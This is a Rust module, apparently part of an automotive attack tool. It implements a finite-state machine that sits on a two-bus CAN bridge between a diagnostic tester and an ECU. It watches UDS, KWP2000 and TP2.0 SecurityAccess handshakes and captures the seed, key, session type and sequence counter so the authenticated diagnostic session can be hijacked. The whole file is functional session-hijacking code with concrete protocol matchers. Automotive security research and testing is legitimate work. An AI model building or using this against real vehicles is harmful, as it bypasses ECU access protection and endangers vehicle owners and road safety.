//! The SecurityAccess observation state machine.
//!
//! The same five-state progression serves UDS, KWP2000 and TP2.0 sessions;
//! only the frame matchers differ:
//!
//! ```text
//!  WAIT_REQ ─seed req seen─▶ WAIT_SEED ─seed reply seen─▶ WAIT_KEY
//!     ▲                                                      │
//!     │                               key reply seen         ▼
//!     └─────────────────── HIJACKED ◀────── valid key reply ─┘
//!                         (auth failure → WAIT_REQ)
//! ```
//!
//! Each step tolerates up to 100 frames on the watched IDs before giving up
//! and rearming.

use byteorder::{BigEndian, ByteOrder};

/// Frames observed per step before the FSM resets
pub const STEP_FRAME_CAP: u32 = 100;

/// The ECU-side bus in a hijack bridge
pub const ECU_BUS: u8 = 1;
/// The tester-side bus in a hijack bridge
pub const TESTER_BUS: u8 = 2;

/// One bridged frame as seen by the observer
#[derive(Clone, Copy, Debug)]
pub struct Observation<'a> {
    pub bus: u8,
    pub id: u32,
    pub data: &'a [u8],
}

/// Protocol-specific matchers over bridged frames.
///
/// A matcher never consumes anything; the bridge forwards every frame
/// whether or not it advanced the FSM.
pub trait HijackProtocol {
    /// Tester-side SecurityAccess seed request; yields the requested level
    fn match_request(&self, obs: &Observation) -> Option<u8>;

    /// ECU-side seed reply for `level`; yields the 4-byte seed
    fn match_seed(&self, obs: &Observation, level: u8) -> Option<u32>;

    /// Tester-side key message for `level`; yields the 4-byte key
    fn match_key(&self, obs: &Observation, level: u8) -> Option<u32>;

    /// ECU-side positive reply to the key
    fn match_key_ack(&self, obs: &Observation, level: u8) -> bool;

    /// ECU-side invalid-key rejection
    fn match_auth_fail(&self, obs: &Observation) -> bool;

    /// Tester-side DiagnosticSessionControl; yields the session type
    fn match_session_request(&self, obs: &Observation) -> Option<u8>;

    /// Transport sequence counter to carry into the inherited session
    fn counter(&self, _obs: &Observation) -> Option<u8> {
        None
    }
}

/// Matchers for UDS over ISO-TP with standard addressing. KWP2000-over-CAN
/// uses the same SecurityAccess framing, so this matcher serves both.
#[derive(Clone, Copy, Debug)]
pub struct UdsMatcher {
    /// ID the tester transmits on
    pub tester_id: u32,
    /// ID the ECU replies on
    pub ecu_id: u32,
    /// Only capture this SecurityAccess level; 0 captures any
    pub level_filter: u8,
}

impl HijackProtocol for UdsMatcher {
    fn match_request(&self, obs: &Observation) -> Option<u8> {
        if obs.bus != TESTER_BUS || obs.id != self.tester_id || obs.data.len() < 3 {
            return None;
        }
        // single frame `02 27 LVL`
        if obs.data[0] == 0x02 && obs.data[1] == 0x27 {
            let level = obs.data[2];
            if self.level_filter == 0 || self.level_filter == level {
                return Some(level);
            }
        }
        None
    }

    fn match_seed(&self, obs: &Observation, level: u8) -> Option<u32> {
        if obs.bus != ECU_BUS || obs.id != self.ecu_id || obs.data.len() < 7 {
            return None;
        }
        // single frame or first frame of a longer seed
        let single = obs.data[1] == 0x67 && obs.data[2] == level;
        let multi = obs.data[2] == 0x67 && obs.data[3] == level;
        if single || multi {
            return Some(BigEndian::read_u32(&obs.data[3..7]));
        }
        None
    }

    fn match_key(&self, obs: &Observation, level: u8) -> Option<u32> {
        if obs.bus != TESTER_BUS || obs.id != self.tester_id || obs.data.len() < 7 {
            return None;
        }
        if obs.data[0] == 0x06 && obs.data[1] == 0x27 && obs.data[2] == level.wrapping_add(1) {
            return Some(BigEndian::read_u32(&obs.data[3..7]));
        }
        None
    }

    fn match_key_ack(&self, obs: &Observation, level: u8) -> bool {
        if obs.bus != ECU_BUS || obs.id != self.ecu_id || obs.data.len() < 3 {
            return false;
        }
        let sent = level.wrapping_add(1);
        if obs.data[1] == 0x67 && obs.data[2] == sent {
            return true;
        }
        obs.data.len() >= 4 && obs.data[2] == 0x67 && obs.data[3] == sent
    }

    fn match_auth_fail(&self, obs: &Observation) -> bool {
        obs.bus == ECU_BUS
            && obs.id == self.ecu_id
            && obs.data.len() >= 4
            && obs.data[0] == 0x03
            && obs.data[1] == 0x7F
            && obs.data[2] == 0x27
            && obs.data[3] == 0x35
    }

    fn match_session_request(&self, obs: &Observation) -> Option<u8> {
        if obs.bus == TESTER_BUS
            && obs.id == self.tester_id
            && obs.data.len() >= 3
            && obs.data[0] == 0x02
            && obs.data[1] == 0x10
        {
            return Some(obs.data[2]);
        }
        None
    }
}

/// Matchers for KWP2000 riding on TP2.0 data frames: byte 0 carries the
/// 4-bit sequence counter and frame type, the PDU starts at byte 1.
#[derive(Clone, Copy, Debug)]
pub struct Tp20Matcher {
    pub tester_id: u32,
    pub ecu_id: u32,
    pub level_filter: u8,
}

impl Tp20Matcher {
    /// Only data frames carry application PDUs
    fn pdu<'a>(&self, obs: &Observation<'a>) -> Option<&'a [u8]> {
        if obs.data.len() < 2 || obs.data[0] & 0x0F > 0x3 {
            return None;
        }
        Some(&obs.data[1..])
    }
}

impl HijackProtocol for Tp20Matcher {
    fn match_request(&self, obs: &Observation) -> Option<u8> {
        if obs.bus != TESTER_BUS || obs.id != self.tester_id {
            return None;
        }
        let pdu = self.pdu(obs)?;
        if pdu.len() >= 2 && pdu[0] == 0x27 {
            let level = pdu[1];
            if self.level_filter == 0 || self.level_filter == level {
                return Some(level);
            }
        }
        None
    }

    fn match_seed(&self, obs: &Observation, level: u8) -> Option<u32> {
        if obs.bus != ECU_BUS || obs.id != self.ecu_id {
            return None;
        }
        let pdu = self.pdu(obs)?;
        if pdu.len() >= 6 && pdu[0] == 0x67 && pdu[1] == level {
            return Some(BigEndian::read_u32(&pdu[2..6]));
        }
        None
    }

    fn match_key(&self, obs: &Observation, level: u8) -> Option<u32> {
        if obs.bus != TESTER_BUS || obs.id != self.tester_id {
            return None;
        }
        let pdu = self.pdu(obs)?;
        if pdu.len() >= 6 && pdu[0] == 0x27 && pdu[1] == level.wrapping_add(1) {
            return Some(BigEndian::read_u32(&pdu[2..6]));
        }
        None
    }

    fn match_key_ack(&self, obs: &Observation, level: u8) -> bool {
        if obs.bus != ECU_BUS || obs.id != self.ecu_id {
            return false;
        }
        match self.pdu(obs) {
            Some(pdu) => pdu.len() >= 2 && pdu[0] == 0x67 && pdu[1] == level.wrapping_add(1),
            None => false,
        }
    }

    fn match_auth_fail(&self, obs: &Observation) -> bool {
        if obs.bus != ECU_BUS || obs.id != self.ecu_id {
            return false;
        }
        match self.pdu(obs) {
            Some(pdu) => pdu.len() >= 3 && pdu[0] == 0x7F && pdu[1] == 0x27 && pdu[2] == 0x35,
            None => false,
        }
    }

    fn match_session_request(&self, obs: &Observation) -> Option<u8> {
        if obs.bus != TESTER_BUS || obs.id != self.tester_id {
            return None;
        }
        let pdu = self.pdu(obs)?;
        if pdu.len() >= 2 && pdu[0] == 0x10 {
            return Some(pdu[1]);
        }
        None
    }

    fn counter(&self, obs: &Observation) -> Option<u8> {
        if obs.data.is_empty() {
            return None;
        }
        Some(obs.data[0] >> 4)
    }
}

/// Everything captured by a completed hijack
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct HijackOutcome {
    pub level: u8,
    pub seed: u32,
    pub key: u32,
    /// Diagnostic session type the tester negotiated, 0 if none was seen
    pub session_type: u8,
    /// TP2.0 sequence counter at the moment of capture
    pub counter: Option<u8>,
}

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum State {
    #[default]
    WaitRequest,
    WaitSeed,
    WaitKey,
    WaitKeyAck,
}

/// Feed every bridged frame through [HijackFsm::observe]; a returned
/// [HijackOutcome] means the handshake completed and the authenticated
/// session can be inherited.
pub struct HijackFsm<P: HijackProtocol> {
    protocol: P,
    state: State,
    level: u8,
    seed: u32,
    key: u32,
    session_type: u8,
    frames_in_step: u32,
    last_counter: Option<u8>,
}

impl<P: HijackProtocol> HijackFsm<P> {
    pub fn new(protocol: P) -> Self {
        Self {
            protocol,
            state: State::WaitRequest,
            level: 0,
            seed: 0,
            key: 0,
            session_type: 0,
            frames_in_step: 0,
            last_counter: None,
        }
    }

    #[inline]
    #[must_use]
    pub fn protocol(&self) -> &P {
        &self.protocol
    }

    fn rearm(&mut self) {
        self.state = State::WaitRequest;
        self.level = 0;
        self.seed = 0;
        self.key = 0;
        self.frames_in_step = 0;
    }

    pub fn observe(&mut self, obs: &Observation) -> Option<HijackOutcome> {
        if let Some(session) = self.protocol.match_session_request(obs) {
            self.session_type = session;
        }
        if let Some(counter) = self.protocol.counter(obs) {
            self.last_counter = Some(counter);
        }

        match self.state {
            State::WaitRequest => {
                if let Some(level) = self.protocol.match_request(obs) {
                    tracing::debug!("Seed request for level {level:#04X} observed");
                    self.level = level;
                    self.state = State::WaitSeed;
                    self.frames_in_step = 0;
                    return None;
                }
            }
            State::WaitSeed => {
                if let Some(seed) = self.protocol.match_seed(obs, self.level) {
                    tracing::debug!("Seed {seed:#010X} observed");
                    self.seed = seed;
                    self.state = State::WaitKey;
                    self.frames_in_step = 0;
                    return None;
                }
            }
            State::WaitKey => {
                if let Some(key) = self.protocol.match_key(obs, self.level) {
                    tracing::debug!("Key {key:#010X} observed");
                    self.key = key;
                    self.state = State::WaitKeyAck;
                    self.frames_in_step = 0;
                    return None;
                }
            }
            State::WaitKeyAck => {
                if self.protocol.match_key_ack(obs, self.level) {
                    let outcome = HijackOutcome {
                        level: self.level,
                        seed: self.seed,
                        key: self.key,
                        session_type: self.session_type,
                        counter: self.last_counter,
                    };
                    tracing::info!("SecurityAccess level {:#04X} hijacked", outcome.level);
                    self.rearm();
                    return Some(outcome);
                }
                if self.protocol.match_auth_fail(obs) {
                    tracing::debug!("Authentication failed, rearming");
                    self.rearm();
                    return None;
                }
            }
        }

        // a hung handshake rearms after too many unrelated frames
        if self.state != State::WaitRequest {
            self.frames_in_step += 1;
            if self.frames_in_step > STEP_FRAME_CAP {
                tracing::debug!("Handshake stalled after {STEP_FRAME_CAP} frames, rearming");
                self.rearm();
            }
        }
        None
    }
}
